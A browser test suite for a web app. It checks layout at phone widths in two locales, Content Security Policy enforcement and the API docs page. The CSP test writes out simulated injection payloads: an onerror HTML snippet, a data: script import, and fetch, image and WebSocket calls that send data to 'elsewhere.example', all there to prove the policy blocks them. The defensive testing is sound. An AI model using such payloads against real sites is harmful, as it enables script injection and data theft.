// Every page in a real browser: nothing against the policy, nothing from elsewhere, no wider than a phone; and the API's page.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { COUNTER, member, visit } from './app.mjs'
import { eventually } from './browser.mjs'
import { publisher } from './publisher.mjs'
import { world } from './world.mjs'

const server = await world('--registration', 'open')
/** The longest name there may be, in the widest letters: what most easily breaks a narrow page. */
const LONG = '名'.repeat(64)
const publish = await publisher(server, LONG)
const { token } = await server.login(LONG)
const wide = (length) => 'W'.repeat(length)
await publish(`@${LONG}`, {
  title: wide(200),
  body: wide(400),
  kind: 'w'.repeat(64),
  group: wide(255),
  actor: { id: wide(128), name: wide(64) },
})
for (const [method, path, body] of [
  [
    'PUT',
    '/inbox/preferences',
    { muted: { kinds: ['w'.repeat(64)], groups: [wide(255)], actors: [wide(128)] } },
  ],
  ['POST', '/keys', { name: wide(64), scopes: ['publish', 'presence', 'inbox', 'admin'] }],
]) {
  const answer = await server.api(method, path, { token, body })
  assert.equal(answer.status, 200, answer.text)
}

/** Each with what is there once it is ready. */
const GUEST_PAGES = [
  ['/login', 'h1'],
  ['/register', 'form'],
  [`/setup${new URL(await server.setupLink()).hash}`, 'form'],
  ['/setup', '.notice'],
  ['/no/such/page', 'h1'],
]
const MEMBER_PAGES = [
  ['/inbox', 'li.item'],
  ['/inbox?state=archived', '.empty'],
  ['/inbox/mutes', 'section'],
  [COUNTER, '[data-testid=connection][data-state=live]'],
  ['/keys', '.key'],
  ['/publish', 'form'],
  ['/live', '[data-tile]'],
  ['/members', '.account'],
  [`/members?id=${encodeURIComponent(`@${LONG}`)}`, '.trace li'],
  ['/sessions', '.session'],
  ['/account', 'dl'],
  ['/no/such/page', 'h1'],
]
const API_PAGE = [['/api/docs', '.opblock']]
/** As narrow as phones are, and as WCAG 2.2 asks for (1.4.10). */
const WIDTHS = [390, 320]

async function look(page, pages) {
  for (const [path, ready] of pages) {
    await page.goto(server.url + path)
    await page.waitForSelector(ready)
    for (const width of WIDTHS) {
      await page.setViewportSize({ width, height: 700 })
      const { scroll, client } = await page.evaluate(() => {
        const { scrollWidth, clientWidth } = document.documentElement
        return { scroll: scrollWidth, client: clientWidth }
      })
      assert.ok(scroll <= client, `${path} at ${width} is ${scroll} wide, and ${client} are there`)
      assert.equal(client, width)
    }
  }
}

for (const locale of ['en', 'zh-CN']) {
  test(`${locale}: no page offends the policy, asks elsewhere, complains or scrolls sideways`, async () => {
    const guest = await visit(server, { locale })
    await look(await guest.page(), locale === 'en' ? [...GUEST_PAGES, ...API_PAGE] : GUEST_PAGES)
    await guest.leave()
    const { one, page } = await member(server, LONG, { locale })
    await look(page, MEMBER_PAGES)
    await page.goto(server.url + COUNTER)
    await page.waitForSelector('[data-testid=connection][data-state=live]')
    // Somebody's long word, back in the list.
    await page.fill('[name=message]', 'W'.repeat(400))
    await page.press('[name=message]', 'Enter')
    await page.waitForSelector('[data-testid=heard] li[data-kind=text]')
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'a long message')
    await one.leave()
  })
}

test('what slipped into a page does not run, is not sent out, and becomes no HTML', async () => {
  const one = await visit(server)
  const page = await one.page(`${server.url}/login`)
  // As an attacker's code would do it that had found a way in; each try is refused, and says so.
  const tries = {
    'script-src-elem': () => import('data:text/javascript,window.injected=true'),
    'style-src-attr': () => document.body.setAttribute('style', 'display: none'),
    'style-src-elem': () =>
      (document.head.appendChild(document.createElement('style')).textContent = 'body { display: none }'),
    'img-src': () => (new Image().src = 'https://elsewhere.example/?stolen'),
    'connect-src': () => fetch('https://elsewhere.example/?stolen').catch(() => {}),
    'base-uri': () =>
      (document.head.appendChild(document.createElement('base')).href = 'https://elsewhere.example/'),
    'require-trusted-types-for': () =>
      (document.body.innerHTML = '<img src=x onerror="window.injected = true">'),
    'trusted-types': () => trustedTypes.createPolicy('mine', {}),
  }
  for (const [directive, attempt] of Object.entries(tries)) {
    await page.evaluate(attempt).catch(() => {})
    // Also proves that a violation is noticed here: without it, every other test's silence would mean nothing.
    await eventually(
      () => one.faults.some((fault) => fault.startsWith(`policy: ${directive} `)),
      true,
      directive,
    )
  }
  const socket = () =>
    new Promise((resolve) => {
      const socket = new WebSocket('wss://elsewhere.example/')
      socket.onerror = () => resolve('refused')
      socket.onopen = () => resolve('open')
    })
  assert.equal(await page.evaluate(socket), 'refused')
  await page.click('body')
  assert.equal(await page.evaluate(() => window.injected), undefined)
  const said = Object.keys(tries).join('|')
  await one.leave(
    new RegExp(`^policy: (${said}) `),
    /^console: .*(Content Security Policy|Trusted ?Type|TrustedHTML)/i,
    /^request to elsewhere: https:..elsewhere.example/,
  )
})

test('the API page shows every operation, and a try-it call works, with and without a token', async () => {
  const described = (await server.ask('/api/openapi.json')).json
  const operations = Object.entries(described.paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => `${method} ${path}`),
  )
  const one = await visit(server)
  const page = await one.page(`${server.url}/api/docs`)
  await page.waitForSelector('.opblock')
  const shown = await page.locator('.opblock-summary').evaluateAll((all) =>
    all.map((one) => {
      const text = (part) => one.querySelector(part).textContent.replaceAll('\u200b', '')
      return `${text('.opblock-summary-method').toLowerCase()} ${text('.opblock-summary-path')}`
    }),
  )
  assert.deepEqual(shown.toSorted(), operations.toSorted())

  const tryIt = async (path) => {
    const block = page.locator('.opblock-get', { has: page.locator(`[data-path="${path}"]`) })
    await block.locator('.opblock-summary-control').click()
    await block.locator('text=Try it out').click()
    await block.locator('button.execute').click()
    const answer = block.locator('.live-responses-table .response')
    const status = await answer.locator('.response-col_status').innerText()
    return {
      status: status.trim(),
      body: JSON.parse(await answer.locator('.response-col_description code').first().innerText()),
    }
  }
  const about = await tryIt('/server')
  assert.deepEqual([about.status, about.body], ['200', (await server.api('GET', '/server')).json])

  await page.click('.btn.authorize')
  await page.fill('.dialog-ux input', token)
  await page.click('.dialog-ux button[type=submit]')
  await page.click('.dialog-ux .btn-done')
  const me = await tryIt('/me')
  assert.deepEqual([me.status, me.body.name], ['200', LONG])
  await one.leave()
})
